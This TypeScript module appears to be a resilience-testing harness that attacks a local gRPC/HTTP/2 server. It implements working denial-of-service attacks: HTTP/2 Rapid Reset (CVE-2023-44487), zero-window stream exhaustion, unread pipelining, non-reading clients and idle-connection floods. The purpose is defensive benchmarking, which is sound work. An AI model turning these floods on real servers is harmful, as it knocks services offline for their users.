import { Buffer } from "node:buffer";
import { once } from "node:events";
import net from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { GET_HEALTH } from "../tests/chaos/transport/paths.ts";
import { crowd } from "../tests/support/crowd.ts";
import {
  CONNECTION_START,
  grpcCall,
  grpcHeader,
  grpcMessage,
  RawHttp2Client,
} from "../tests/support/http2_client.ts";
import {
  Flag,
  frame,
  FrameType,
  headers,
  PREFACE,
  rstStream,
  settings,
  windowUpdate,
} from "../tests/support/http2_client_frames.ts";
import { Http2Session } from "../tests/support/http2_session.ts";
import { get } from "../tests/support/raw_socket.ts";

/** Address of the attacked server, and size of the attack. */
export interface AttackTarget {
  readonly port: number;
  readonly http1Port: number;
  /** Number of connections of the attack that opens as many as it can. */
  readonly idleConnections: number;
}

/**
 * Attacks for some seconds and returns a result text; the end of the process closes its
 * connections.
 */
export type Attack = (target: AttackTarget) => Promise<string>;

const RAPID_RESET_MS = 2_000;
/** Duration of attacks that hold connections or keep sending. */
const HOLD_MS = 5_000;
const CHECK = "/grpc.health.v1.Health/Check";
/** Concurrent streams of a connection: the default limit of servers. */
const STREAMS = 100;
/** For {@linkcode STREAMS} calls: time in which all compared servers can answer them. */
const CALLS_PACE_MS = 60;
/** Setting identifiers (RFC 9113, section 6.5.2). */
const INITIAL_WINDOW_SIZE = 4;
const MAX_WINDOW = 2 ** 31 - 1;
/** The highest stream identifier of a client. */
const LAST_STREAM = 2 ** 31 - 1;
/**
 * Number of prepared HEADERS and RST_STREAM frames, so that building them does not limit the rate.
 */
const PAIRS_A_WRITE = 500;
const PIPELINED = get(`${GET_HEALTH}?encoding=json&message=%7B%7D`).repeat(500);

/** All attacks, by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset, 1 connection, 2 s": async ({ port }) => {
    const { pairs, lastedMs } = await rapidReset(port, RAPID_RESET_MS);
    return `${pairs} streams in ${(lastedMs / 1e3).toFixed(1)} s`;
  },
  "rapid reset, again and again, 2 s": async ({ port }) => {
    const endsAt = performance.now() + RAPID_RESET_MS;
    let [connections, streams] = [0, 0];
    for (let leftMs = RAPID_RESET_MS; leftMs > 0; leftMs = endsAt - performance.now()) {
      const { pairs } = await rapidReset(port, leftMs);
      connections++;
      streams += pairs;
    }
    return `${streams} streams on ${connections} connections`;
  },
  "30 × 100 zero-window streams": (target) => zeroWindow(target, 30, grpcGetHealth),
  "100 × 100 zero-window streams": (target) => zeroWindow(target, 100, grpcGetHealth),
  "100 × 100 zero-window, Connect": (target) => zeroWindow(target, 100, connectGetHealth),
  "100 × 100 zero-window, Check": (target) => zeroWindow(target, 100, grpcCheck),
  "30 × 100 calls, cold server": manyCalls,
  "50 connections pipeline, unread": pipeline,
  "1 reader that stopped": (target) => stopReading(target, 1),
  "20 readers that stopped": (target) => stopReading(target, 20),
  "idle connections": idle,
};

const grpcGetHealth = (stream: number) => grpcCall(stream, GET_HEALTH);
const grpcCheck = (stream: number) => grpcCall(stream, CHECK);
function connectGetHealth(stream: number): Buffer {
  const fields = grpcHeader(GET_HEALTH).flatMap(([name, value]) =>
    name === "te" ? [] : [[name, name === "content-type" ? "application/json" : value] as const]
  );
  return Buffer.concat([
    headers(stream, fields),
    frame(FrameType.DATA, { stream, flags: Flag.END_STREAM, payload: Buffer.from("{}") }),
  ]);
}

/** Opens streams and resets each immediately, as fast as the server reads (CVE-2023-44487). */
async function rapidReset(
  port: number,
  durationMs: number,
): Promise<{ pairs: number; lastedMs: number }> {
  await using client = await RawHttp2Client.connect(port);
  const startedAt = performance.now();
  const lastedMs = () => performance.now() - startedAt;
  const { batch, renumber } = resetBatch();
  let pairs = 0;
  await write(client.socket, CONNECTION_START);
  while (lastedMs() < durationMs && client.socket.writable && 2 * pairs < LAST_STREAM) {
    renumber(1 + 2 * pairs);
    // The socket retains its buffers: copying is cheaper than building new frames.
    const leftMs = Math.max(0, durationMs - lastedMs());
    const sent = write(client.socket, Buffer.from(batch));
    if (await Promise.race([sent, delay(leftMs, false)])) pairs += PAIRS_A_WRITE;
  }
  return { pairs, lastedMs: lastedMs() };
}

/** Pairs of HEADERS and RST_STREAM in one buffer, whose stream identifiers can be set. */
function resetBatch(): { batch: Buffer; renumber: (first: number) => void } {
  const header = headers(1, grpcHeader(GET_HEALTH));
  const pair = Buffer.concat([header, rstStream(1)]);
  const batch = Buffer.concat(Array.from({ length: PAIRS_A_WRITE }, () => pair));
  // RFC 9113, section 4.1: the identifier is in the last four octets of a frame header.
  const renumber = (first: number) => {
    for (let index = 0; index < PAIRS_A_WRITE; index++) {
      const start = index * pair.length;
      batch.writeUInt32BE(first + 2 * index, start + 5);
      batch.writeUInt32BE(first + 2 * index, start + header.length + 5);
    }
  };
  return { batch, renumber };
}

/** Makes calls with a flow-control window of zero, so that they cannot be answered. */
async function zeroWindow(
  { port }: AttackTarget,
  connections: number,
  call: (stream: number) => Buffer,
): Promise<string> {
  const bytes = Buffer.concat([
    PREFACE,
    settings([[INITIAL_WINDOW_SIZE, 0]]),
    frame(FrameType.SETTINGS, { flags: Flag.ACK }),
    ...Array.from({ length: STREAMS }, (_, index) => call(1 + 2 * index)),
  ]);
  const clients = await connectMany(port, connections);
  for (const client of clients) client.socket.write(bytes);
  await delay(HOLD_MS);
  const open = clients.filter(({ socket }) => !socket.closed).length;
  const ended = clients.reduce((sum, { endedStreams }) => sum + endedStreams, 0);
  return `${ended} of ${connections * STREAMS} streams ended, ${open} connections open`;
}

/** Makes as many concurrent calls as a normal client may, from many connections. */
async function manyCalls({ port }: AttackTarget): Promise<string> {
  const connections = 30;
  const counts = { answered: 0, "turned away": 0, lost: 0 };
  const url = new URL(`http://127.0.0.1:${port}/`);
  const startedAt = performance.now();
  await Promise.all(Array.from({ length: connections }, async () => {
    await using session = new Http2Session(url);
    await Promise.all(
      Array.from({ length: STREAMS }, async () => counts[await callOutcome(session)]++),
    );
  }));
  const lasted = ((performance.now() - startedAt) / 1e3).toFixed(1);
  return `${Object.entries(counts).map(([end, count]) => `${count} ${end}`).join(", ")} ` +
    `in ${lasted} s`;
}

type CallOutcome = "answered" | "turned away" | "lost";

/** `unavailable` is 14 in gRPC, whatever the HTTP status. */
async function callOutcome(session: Http2Session): Promise<CallOutcome> {
  const stream = session.request({
    ":method": "POST",
    ":path": GET_HEALTH,
    "content-type": "application/grpc",
    "te": "trailers",
  });
  let header: Record<string, unknown> = {};
  const keep = (fields: Record<string, unknown>) => void (header = { ...header, ...fields });
  stream.on("response", keep).on("trailers", keep).resume();
  stream.end(grpcMessage());
  const ended = Promise.withResolvers<void>();
  stream.once("end", ended.resolve).once("close", ended.resolve);
  await ended.promise;
  if (header["grpc-status"] === "0") return "answered";
  return header["grpc-status"] === "14" || header[":status"] === 503 ? "turned away" : "lost";
}

/** Pipelines HTTP/1.1 requests and reads no answer. */
async function pipeline({ http1Port }: AttackTarget): Promise<string> {
  const connections = 50;
  const sockets = await Promise.all(Array.from({ length: connections }, async () => {
    const socket = net.connect({ port: http1Port, host: "127.0.0.1" });
    await once(socket, "connect");
    return socket.on("error", () => {});
  }));
  const octets = await sendForAWhile(sockets, () => PIPELINED);
  const open = sockets.filter(({ closed }) => !closed).length;
  return `${(octets / 1e6).toFixed(0)} MB of requests accepted, ${open} connections open`;
}

/** Makes calls continuously, and never reads from the socket. */
async function stopReading({ port }: AttackTarget, connections: number): Promise<string> {
  const clients = await connectMany(port, connections);
  const nextStream = new Map<net.Socket, number>();
  for (const { socket } of clients) {
    socket.pause();
    nextStream.set(socket, 1);
    socket.write(Buffer.concat([
      PREFACE,
      settings([[INITIAL_WINDOW_SIZE, MAX_WINDOW]]),
      frame(FrameType.SETTINGS, { flags: Flag.ACK }),
      windowUpdate(0, MAX_WINDOW - 65_535),
    ]));
  }
  const nextCalls = (socket: net.Socket) => {
    const first = nextStream.get(socket)!;
    nextStream.set(socket, first + 2 * STREAMS);
    return Buffer.concat(Array.from({ length: STREAMS }, (_, i) => grpcGetHealth(first + 2 * i)));
  };
  // A client that exceeds the stream limit would be disconnected for that, not for not reading.
  const octets = await sendForAWhile(clients.map(({ socket }) => socket), nextCalls, {
    paceMs: connections * CALLS_PACE_MS,
  });
  const open = clients.filter(({ socket }) => !socket.closed).length;
  return `${(octets / 1e6).toFixed(0)} MB of calls accepted, ${open} connections open`;
}

/** Opens connections that stay idle after their preface. */
async function idle({ port, idleConnections }: AttackTarget): Promise<string> {
  const clients: RawHttp2Client[] = [];
  let refused = 0;
  await crowd(
    Array.from({ length: idleConnections }, () => async () => {
      const client = await RawHttp2Client.connect(port).catch(() => undefined);
      client?.socket.write(CONNECTION_START);
      await client?.until(() => client.frames > 0);
      if (client === undefined || client.socket.closed) refused++;
      else clients.push(client);
    }),
    64,
  );
  await delay(HOLD_MS);
  const open = clients.filter(({ socket }) => !socket.closed).length;
  return `${open} of ${idleConnections} open, ${refused} refused`;
}

function connectMany(port: number, count: number): Promise<RawHttp2Client[]> {
  return Promise.all(Array.from({ length: count }, () => RawHttp2Client.connect(port)));
}

/**
 * Writes to all sockets as fast as they accept data, and returns the number of octets sent.
 *
 * @param paceMs Minimum time between two writes to a socket.
 */
async function sendForAWhile(
  sockets: readonly net.Socket[],
  next: (socket: net.Socket) => string | Uint8Array,
  { paceMs = 0 } = {},
): Promise<number> {
  const endsAt = performance.now() + HOLD_MS;
  await Promise.all(sockets.map(async (socket) => {
    while (performance.now() < endsAt && socket.writable) {
      const sent = Promise.all([write(socket, next(socket)), delay(paceMs)]);
      await Promise.race([sent, delay(Math.max(0, endsAt - performance.now()))]);
    }
  }));
  return sockets.reduce(
    (sum, { bytesWritten, writableLength }) => sum + bytesWritten - writableLength,
    0,
  );
}

/**
 * Resolves when the kernel has accepted everything (true), or the connection has closed (false).
 */
function write(socket: net.Socket, bytes: string | Uint8Array): Promise<boolean> {
  const { promise, resolve } = Promise.withResolvers<boolean>();
  socket.write(bytes, (error) => resolve(!error));
  return promise;
}
